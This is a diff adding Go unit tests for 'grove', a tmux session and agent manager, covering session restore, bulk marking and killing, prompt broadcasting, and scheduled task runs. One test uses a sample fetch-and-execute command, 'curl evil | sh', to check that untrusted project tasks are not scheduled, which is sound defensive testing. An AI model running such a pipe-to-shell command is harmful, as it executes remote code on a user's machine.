+		t.Fatalf("manifest has %d sessions after grove ended them, want 0", got)
+	}
+}
+
+func TestDecliningRestoreForgetsMissingSessions(t *testing.T) {
+	t.Parallel()
+
+	m := NewModel(cliTestConfig(), "config.toml", &trackingSessionManager{})
+	m.manifestPath = filepath.Join(t.TempDir(), "sessions.json")
+	model, _ := m.Update(manifestLoadedMsg{manifest: manifest.Manifest{Folders: map[string][]manifest.Session{
+		"api": {{Kind: manifest.KindTerminal, Index: 4, Dir: "/tmp/api"}},
+	}}})
+	model, _ = model.(Model).Update(runningCommandSessions("api/term-1"))
+	model, cmd := model.(Model).Update(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune{'n'}})
+	m = model.(Model)
+	if m.confirmRestore != nil || m.statusMsg != "restore skipped" {
+		t.Fatalf("confirmRestore = %+v, status = %q, want the prompt closed", m.confirmRestore, m.statusMsg)
+	}
+	if saved := cmd().(tea.BatchMsg)[0]().(manifestSavedMsg); saved.err != nil {
+		t.Fatalf("save error = %v", saved.err)
+	}
+	saved, err := manifest.Load(m.manifestPath)
+	if err != nil || saved.Len() != 1 || saved.Folders["api"][0].Index != 1 {
+		t.Fatalf("saved manifest = %+v (err %v), want only the running terminal", saved, err)
+	}
+}
+
+// runSequence runs the commands of a tea.Sequence in order and returns their
+// messages.
+func runSequence(cmd tea.Cmd) []tea.Msg {
+	msg := cmd()
+	v := reflect.ValueOf(msg)
+	if v.Kind() != reflect.Slice {
+		return []tea.Msg{msg}
+	}
+	msgs := make([]tea.Msg, 0, v.Len())
+	for i := 0; i < v.Len(); i++ {
+		msgs = append(msgs, v.Index(i).Interface().(tea.Cmd)())
+	}
+	return msgs
+}
+
+func TestMarkedSessionsShareOneKillConfirmation(t *testing.T) {
+	t.Parallel()
+
+	fake := &trackingSessionManager{}
+	worktrees := &fakeWorktreeManager{}
+	m := NewModel(config.Config{Folders: []config.Folder{{Name: "API", Path: "/tmp/api", Namespace: "api"}}}, "config.toml", fake)
+	m.worktrees = worktrees
+	m.width, m.height = 120, 30
+	model, _ := m.Update(sessionsLoadedMsg{
+		sessions: map[int][]tmux.Session{0: {
+			{Name: "api/agent-claude-1"},
+			{Name: "api/agent-claude-2", Worktree: "/tmp/api/.grove/worktrees/agent-claude-2"},
+			{Name: "api/term-1"},
+		}},
+		sessionWindows: map[string][]int{},
+		activeWindows:  map[string]int{},
+		panesFresh:     true,
+	})
+	m = model.(Model)
+	m.setSelected(1)
+	for i := 0; i < 2; i++ {
+		model, _ = m.Update(tea.KeyMsg{Type: tea.KeySpace, Runes: []rune{' '}})
+		m = model.(Model)
+	}
+	if row, _ := m.selectedRow(); row.sessionName != "api/term-1" || len(m.marked) != 2 {
+		t.Fatalf("selected %s with marks %v, want both agents marked and the cursor moved on", row.sessionName, m.marked)
+	}
+	if tree := stripANSI(m.renderTreePane(20, 40, 44, false)); strings.Count(tree, "• ") != 2 {
+		t.Fatalf("tree = %q, want two marked rows", tree)
+	}
+	if footer := stripANSI(m.renderFooter()); !strings.Contains(footer, "• 2 marked") {
+		t.Fatalf("footer = %q, want the mark count", footer)
+	}
+
+	model, _ = m.Update(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune{'K'}})
+	m = model.(Model)
+	footer := stripANSI(m.renderFooter())
+	if !strings.Contains(footer, "kill api/agent-claude-1, api/agent-claude-2?") || !strings.Contains(footer, "remove worktrees") {
+		t.Fatalf("footer = %q, want one confirmation listing both agents", footer)
+	}
+	model, cmd := m.Update(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune{'w'}})
+	m = model.(Model)
+	res := cmd().(actionResultMsg)
+	if res.err != nil || res.status != "killed 2 sessions and removed 1 worktree" {
+		t.Fatalf("kill result = %+v, want both killed", res)
+	}
+	if got := strings.Join(fake.killed, ","); got != "api/agent-claude-1,api/agent-claude-2" {
+		t.Fatalf("killed = %s, want both marked agents", got)
+	}
+	if len(worktrees.removed) != 1 {
+		t.Fatalf("removed worktrees = %v, want the second agent's", worktrees.removed)
+	}
+
+	model, _ = m.Update(runningCommandSessions("api/term-1"))
+	if marked := model.(Model).marked; len(marked) != 0 {
+		t.Fatalf("marks = %v, want the killed sessions unmarked", marked)
+	}
+}
+
+func TestMarkedFolderBulkCommands(t *testing.T) {
+	t.Parallel()
+
+	fake := &trackingSessionManager{}
+	m := NewModel(cliTestConfig(), "config.toml", fake)
+	model, _ := m.Update(runningCommandSessions("api/term-1", "api/term-2", "api/cmd-db"))
+	m = model.(Model)
+	m.setSelected(0)
+	model, _ = m.Update(tea.KeyMsg{Type: tea.KeyCtrlA})
+	m = model.(Model)
+	if len(m.marked) != 4 {
+		t.Fatalf("marks = %v, want both terminals and both commands", m.marked)
+	}
+
+	model, cmd := m.Update(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune{'s'}})
+	m = model.(Model)
+	msgs := runSequence(cmd)
+	if len(msgs) != 1 || msgs[0].(actionResultMsg).status != "started web" {
+		t.Fatalf("start results = %+v, want only the stopped command started", msgs)
+	}
+
+	model, cmd = m.Update(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune{'x'}})
+	m = model.(Model)
+	if res := cmd().(commandsStoppedMsg).result; res.err != nil || strings.Join(fake.killed, ",") != "api/cmd-db" {
+		t.Fatalf("stop result = %+v, killed = %v, want the running command stopped", res, fake.killed)
+	}
+
+	model, _ = m.Update(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune{'c'}})
+	m = model.(Model)
+	m.prompt.SetValue("git pull")
+	model, cmd = m.Update(tea.KeyMsg{Type: tea.KeyEnter})
+	m = model.(Model)
+	if res := cmd().(actionResultMsg); res.status != "sent command to 2 sessions" {
+		t.Fatalf("send result = %+v, want both terminals", res)
+	}
+	if got := strings.Join(fake.sentTo, ","); got != "api/term-1,api/term-2" {
+		t.Fatalf("sent to %s, want both marked terminals", got)
+	}
+
+	model, _ = m.Update(tea.KeyMsg{Type: tea.KeyCtrlA})
+	if marked := model.(Model).marked; len(marked) != 0 {
+		t.Fatalf("marks = %v, want the folder unmarked", marked)
+	}
+}
+
+// failingSendManager fails to send keys to one session.
+type failingSendManager struct {
+	trackingSessionManager
+	failOn string
+}
+
+func (f *failingSendManager) SendKeys(target, command string) error {
+	if target == f.failOn {
+		return errors.New("can't find pane")
+	}
+	return f.trackingSessionManager.SendKeys(target, command)
+}
+
+func TestSendPromptTargets(t *testing.T) {
+	t.Parallel()
+
+	m := NewModel(config.Config{Folders: []config.Folder{{Name: "API", Path: "/tmp/api", Namespace: "api"}}}, "config.toml", &trackingSessionManager{})
+	model, _ := m.Update(runningCommandSessions("api/agent-claude-1", "api/agent-codex-1", "api/term-1", "api/term-2"))
+	m = model.(Model)
+
+	labels := func(m Model) string {
+		var got []string
+		for _, target := range m.sendTargets() {
+			got = append(got, target.label)
+		}
+		return strings.Join(got, " | ")
+	}
+	m.setSelected(0)
+	if got := labels(m); got != "2 agents in API" {
+		t.Fatalf("folder row targets = %s", got)
+	}
+	m.filterQuery = "term"
+	m.rebuildRows()
+	m.setSelected(1)
+	m.marked["api/agent-codex-1"] = true
+	if got := labels(m); got != `1 marked session | api/term-1 | 2 agents in API | 2 sessions matching "term"` {
+		t.Fatalf("targets = %s", got)
+	}
+}
+
+func TestSendPromptBroadcastsAndReportsFailures(t *testing.T) {
+	t.Parallel()
+
+	fake := &failingSendManager{failOn: "api/agent-codex-1"}
+	m := NewModel(config.Config{Folders: []config.Folder{{Name: "API", Path: "/tmp/api", Namespace: "api"}}}, "config.toml", fake)
+	model, _ := m.Update(runningCommandSessions("api/agent-claude-1", "api/agent-codex-1", "api/term-1"))
+	m = model.(Model)
+	m.setSelected(1)
+
+	model, _ = m.Update(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune{'c'}})
+	m = model.(Model)
+	if footer := stripANSI(m.renderFooter()); !strings.Contains(footer, "command → api/agent-claude-1:") || !strings.Contains(footer, "tab change target") {
+		t.Fatalf("footer = %q, want the selected session as target", footer)
+	}
+	model, _ = m.Update(tea.KeyMsg{Type: tea.KeyTab})
+	m = model.(Model)
+	if footer := stripANSI(m.renderFooter()); !strings.Contains(footer, "command → 2 agents in API:") {
+		t.Fatalf("footer = %q, want the folder's agents as target", footer)
+	}
+
+	m.prompt.SetValue("stop and commit your work")
+	model, cmd := m.Update(tea.KeyMsg{Type: tea.KeyEnter})
+	res := cmd().(actionResultMsg)
+	if res.err == nil || res.err.Error() != "sent command to 1 of 2 sessions; api/agent-codex-1: can't find pane" {
+		t.Fatalf("send error = %v, want the failing session named", res.err)
+	}
+	if got := strings.Join(fake.sentTo, ","); got != "api/agent-claude-1" || fake.sentCmds[0] != "stop and commit your work" {
+		t.Fatalf("sent %v to %s, want the command sent to the other agent", fake.sentCmds, got)
+	}
+	if model.(Model).promptMode != promptNone {
+		t.Fatal("want the prompt closed after sending")
+	}
+}
+
+func taskTestConfig() config.Config {
+	return config.Config{Folders: []config.Folder{{
+		Name:      "API",
+		Path:      "/tmp/api",
+		Namespace: "api",
+		Tasks: []config.Task{
+			{Name: "audit", Command: "npm audit"},
+			{Name: "tests", Command: "make test", Schedule: "@hourly"},
+		},
+	}}}
+}
+
+func TestTaskRunRecordsExitCodeAndDuration(t *testing.T) {
+	t.Parallel()
+
+	fake := &trackingSessionManager{}
+	m := NewModel(taskTestConfig(), "config.toml", fake)
+	m.taskRunsPath = filepath.Join(t.TempDir(), "tasks.json")
+	model, _ := m.Update(taskRunsLoadedMsg{runs: map[string]taskrun.Run{}})
+	m = model.(Model)
+	if len(m.rows) != 3 || m.rows[1].typeOf != rowTask || m.rows[1].section != sectionTasks {
+		t.Fatalf("rows = %+v, want the folder and its two tasks", m.rows)
+	}
+	if line := stripANSI(m.treeLineText(m.rows[1], 40)); !strings.Contains(line, "○ audit") || !strings.Contains(line, "never run") {
+		t.Fatalf("tree line = %q, want audit never run", line)
+	}
+
+	m.setSelected(1)
+	model, cmd := m.Update(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune{'s'}})
+	started, ok := cmd().(taskStartedMsg)
+	if !ok || started.err != nil || started.status != "started audit" {
+		t.Fatalf("run result = %+v, want audit started", started)
+	}
+	if strings.Join(fake.launched, ",") != "api/task-audit" || fake.commands[0] != "npm audit" {
+		t.Fatalf("launched %v running %v, want the audit task", fake.launched, fake.commands)
+	}
+	model, _ = model.(Model).Update(started)
+	m = model.(Model)
+	if !m.taskRuns["api/task-audit"].Running() {
+		t.Fatalf("run = %+v, want it running", m.taskRuns["api/task-audit"])
+	}
+
+	model, _ = m.Update(runningCommandSessions("api/task-audit"))
+	m = model.(Model)
+	if m.sessionManifest().Len() != 0 {
+		t.Fatal("want tasks left out of the restore manifest")
+	}
+
+	// The task ended long before grove looked, as when grove was closed.
+	run := m.taskRuns["api/task-audit"]
+	run.Started = time.Unix(time.Now().Add(-2*time.Hour).Unix(), 0)
+	m.taskRuns["api/task-audit"] = run
+	msg := runningCommandSessions("api/task-audit")
+	msg.sessions[0][0].Dead, msg.sessions[0][0].ExitStatus = true, 3
+	msg.sessions[0][0].ExitTime = run.Started.Add(42 * time.Second).Unix()
+	model, cmd = m.Update(msg)
+	m = model.(Model)
+	run = m.taskRuns["api/task-audit"]
+	if run.Running() || run.ExitStatus != 3 || run.Duration(time.Now()).Round(time.Second) != 42*time.Second {
+		t.Fatalf("run = %+v, want it finished with exit 3 after 42s", run)
+	}
+	if cmd == nil {
+		t.Fatal("want the finished run saved")
+	}
+	if line := stripANSI(m.treeLineText(m.rows[1], 40)); !strings.Contains(line, "✗ audit") || !strings.Contains(line, "exit 3 in 42s") {
+		t.Fatalf("tree line = %q, want the failed run", line)
+	}
+
+	// The run outlives its session.
+	model, _ = m.Update(runningCommandSessions())
+	m = model.(Model)
+	if got := taskRunLabel(m.rows[1], time.Now()); got != "exit 3 in 42s" {
+		t.Fatalf("label after the session is cleared = %q", got)
+	}
+	if saved := m.saveTaskRunsCmd()().(taskRunsSavedMsg); saved.err != nil {
+		t.Fatal(saved.err)
+	}
+	runs, err := taskrun.Load(m.taskRunsPath)
+	if err != nil || runs["api/task-audit"].ExitStatus != 3 {
+		t.Fatalf("saved runs = %+v, %v", runs, err)
+	}
+}
+
+func TestScheduledTasksRunWhenDue(t *testing.T) {
+	t.Parallel()
+
+	fake := &trackingSessionManager{}
+	m := NewModel(taskTestConfig(), "config.toml", fake)
+	m.taskCheckedAt = time.Date(2026, 10, 16, 9, 59, 0, 0, time.Local)
+	tick := time.Date(2026, 10, 16, 10, 0, 0, 0, time.Local)
+
+	cmd := m.runDueTasks(tick)
+	if cmd == nil {
+		t.Fatal("want the hourly task run at the top of the hour")
+	}
+	started := cmd().(taskStartedMsg)
+	if started.status != "started scheduled task tests" || strings.Join(fake.launched, ",") != "api/task-tests" {
+		t.Fatalf("started %+v, launched %v, want only the scheduled task", started, fake.launched)
+	}
+	if !m.taskCheckedAt.Equal(tick) {
+		t.Fatalf("taskCheckedAt = %v, want %v", m.taskCheckedAt, tick)
+	}
+	if m.runDueTasks(tick.Add(time.Minute)) != nil {
+		t.Fatal("want nothing due a minute later")
+	}
+
+	// A run still going when the task is due again is not overlapped.
+	m.sessions = runningCommandSessions("api/task-tests").sessions
+	m.taskCheckedAt = tick.Add(59 * time.Minute)
+	if m.runDueTasks(tick.Add(time.Hour)) != nil {
+		t.Fatal("want the running task skipped")
+	}
+}
+
+func TestDueTaskSkipsARunStillGoing(t *testing.T) {
+	t.Parallel()
+
+	// The last snapshot is from before the run started.
+	fake := &runningSessionManager{sessions: []tmux.Session{{Name: "api/task-tests"}}}
+	m := NewModel(taskTestConfig(), "config.toml", fake)
+	m.taskRunsPath = filepath.Join(t.TempDir(), "tasks.json")
+	model, _ := m.Update(taskRunsLoadedMsg{runs: map[string]taskrun.Run{"api/task-tests": {Started: time.Unix(1700000000, 0)}}})
+	m = model.(Model)
+	m.taskCheckedAt = time.Date(2026, 10, 16, 9, 59, 0, 0, time.Local)
+
+	started := m.runDueTasks(time.Date(2026, 10, 16, 10, 0, 0, 0, time.Local))().(taskStartedMsg)
+	if !started.skipped || len(fake.killed) != 0 || len(fake.launched) != 0 {
+		t.Fatalf("started %+v, killed %v, launched %v, want the run skipped and the last one left going", started, fake.killed, fake.launched)
+	}
+	model, _ = m.Update(started)
+	m = model.(Model)
+	if run := m.taskRuns["api/task-tests"]; run.Skipped != 1 || m.statusMsg != "skipped tests: its last run is still going" {
+		t.Fatalf("run = %+v, status = %q, want the skip recorded", run, m.statusMsg)
+	}
+
+	// A run that has exited is cleared for the next.
+	fake.sessions[0].Dead = true
+	m.taskCheckedAt = time.Date(2026, 10, 16, 10, 59, 0, 0, time.Local)
+	started = m.runDueTasks(time.Date(2026, 10, 16, 11, 0, 0, 0, time.Local))().(taskStartedMsg)
+	if started.skipped || started.err != nil || strings.Join(fake.killed, ",") != "api/task-tests" || strings.Join(fake.launched, ",") != "api/task-tests" {
+		t.Fatalf("started %+v, killed %v, launched %v, want the dead session replaced", started, fake.killed, fake.launched)
+	}
+}
+
+func TestTaskRunsSaveKeepsNewerRunsOnDisk(t *testing.T) {
+	t.Parallel()
+
+	m := NewModel(taskTestConfig(), "config.toml", &trackingSessionManager{})
+	m.taskRunsPath = filepath.Join(t.TempDir(), "tasks.json")
+	model, _ := m.Update(taskRunsLoadedMsg{runs: map[string]taskrun.Run{}})
+	m = model.(Model)
+	m.taskRuns["api/task-audit"] = taskrun.Run{Started: time.Unix(1700000000, 0), Finished: time.Unix(1700000042, 0)}
+	m.taskRuns["api/task-tests"] = taskrun.Run{Started: time.Unix(1700000000, 0)}
+
+	// Another grove recorded a later run of tests in the meantime.
+	later := taskrun.Run{Started: time.Unix(1700003600, 0)}
+	if err := taskrun.Save(m.taskRunsPath, map[string]taskrun.Run{"api/task-tests": later}); err != nil {
+		t.Fatal(err)
+	}
+	saved := m.saveTaskRunsCmd()().(taskRunsSavedMsg)
+	if saved.err != nil {
+		t.Fatalf("save error = %v", saved.err)
+	}
+	runs, err := taskrun.Load(m.taskRunsPath)
+	if err != nil || !runs["api/task-tests"].Started.Equal(later.Started) || runs["api/task-audit"].Finished.IsZero() {
+		t.Fatalf("saved runs = %+v (err %v), want the later tests run and this audit run", runs, err)
+	}
+	model, _ = m.Update(saved)
+	if got := model.(Model).taskRuns["api/task-tests"]; !got.Started.Equal(later.Started) {
+		t.Fatalf("run = %+v, want the later run picked up", got)
+	}
+}
+
+func TestProjectTaskSchedulesNeverRunUntrusted(t *testing.T) {
+	t.Parallel()
+
+	cfg := taskTestConfig()
+	cfg.Folders[0].Tasks = []config.Task{{Name: "audit", Command: "curl evil | sh", Schedule: "* * * * *", Source: config.SourceProject}}
+	fake := &trackingSessionManager{}
+	m := NewModel(cfg, "config.toml", fake)
+	m.taskCheckedAt = time.Date(2026, 10, 16, 9, 59, 0, 0, time.Local)
+	if cmd := m.runDueTasks(time.Date(2026, 10, 16, 10, 0, 0, 0, time.Local)); cmd != nil || len(fake.launched) != 0 {
+		t.Fatalf("launched %v, want the untrusted project task left alone", fake.launched)
+	}
+
+	m.cfg.Folders[0].TrustProjectSchedules = true
+	m.taskCheckedAt = time.Date(2026, 10, 16, 9, 59, 0, 0, time.Local)
+	if cmd := m.runDueTasks(time.Date(2026, 10, 16, 10, 0, 0, 0, time.Local)); cmd == nil {
+		t.Fatal("want the project task run once the folder trusts its schedules")
+	}
 }